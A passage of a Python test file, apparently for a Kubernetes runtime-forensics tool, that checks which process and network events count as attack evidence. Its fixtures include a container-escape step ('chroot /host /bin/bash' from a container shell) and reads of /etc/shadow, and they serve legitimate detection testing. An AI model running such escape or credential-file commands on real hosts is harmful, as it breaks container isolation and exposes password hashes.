    _, a = _run(20, server, "/bin/sh", "-c 'convert /tmp/up-1.png /tmp/th-1.png'", "2026-03-01T10:00:00Z", init=True)
    c_ = _case(tmp_path, [a, _alert_on(20, "Run shell untrusted", "Debug", "2026-03-01T10:00:00.1Z")])
    assert H.session_entries(c_).is_empty()
    c_.close()


def test_a_host_command_every_node_runs_is_no_aftermath(tmp_path):
    # cron's hourly job reads /etc/shadow (PAM) on every node; after an escape on this one it is no lead
    bash, a = _run(50, SHIM, "/bin/bash", "", "2026-03-01T10:00:00Z")
    _, b = _run(52, _ref(bash), "/usr/sbin/chroot", "/host /bin/bash", "2026-03-01T10:00:02Z")
    cron = {"exec_id": _id(5), "pid": 5, "binary": "/usr/sbin/cron", "arguments": "-f"}
    lines = [a, b]
    for i, (node, t) in enumerate([("worker-7", "2026-03-01T09:00:00Z"), (NODE, "2026-03-01T11:00:00Z")]):
        job, line = _host(70 + i, cron, "/usr/sbin/cron", "-f", t)
        ev = json.loads(line)
        ev["node_name"] = node
        hook = {"process_kprobe": {"process": job, "parent": cron, "function_name": "security_file_open",
                                   "args": [{"file_arg": {"path": "/etc/shadow"}}]}, "node_name": node, "time": t}
        lines += [json.dumps(ev), json.dumps(hook)]
    c_ = _case(tmp_path, lines)
    assert H.derive_findings(c_)["aftermath"] == []
    c_.close()


def test_a_destination_the_policy_also_refused_to_the_app_itself_is_no_evidence_against_a_shell(tmp_path):
    # a misconfigured NetworkPolicy: the app's own main process and an SRE's curl are both refused
    app, a = _run(10, SHIM, "/app/orders-api", "--port 8080", "2026-03-01T08:00:00Z", init=True)
    sh, b = _run(50, SHIM, "/bin/sh", "", "2026-03-01T10:00:00Z")
    curl, c = _run(51, _ref(sh), "/usr/bin/curl", "-sv http://payments:8080/v1/health", "2026-03-01T10:00:05Z")
    lines = [a, b, c, _connect(app, SHIM, 40100, "10.0.5.5", 8080, "2026-03-01T10:00:01Z"),
             _sighting(40100, "10.0.5.5", 8080, "DROPPED", "2026-03-01T10:00:01.001Z", dst_pod="payments-0"),
             _connect(curl, _ref(sh), 40101, "10.0.5.5", 8080, "2026-03-01T10:00:05.1Z"),
             _sighting(40101, "10.0.5.5", 8080, "DROPPED", "2026-03-01T10:00:05.101Z", dst_pod="payments-0")]
    c_ = _case(tmp_path, lines)
    entries = H.session_entries(c_)
    assert entries["quiet"].all(), entries.select("binary", "quiet", "basis")  # the SRE's shell did nothing
    f = H.derive_findings(c_)
    assert f["flag"] is None and f["basis"] == "pod pointed at by destination(s) a policy refused"
    c_.close()
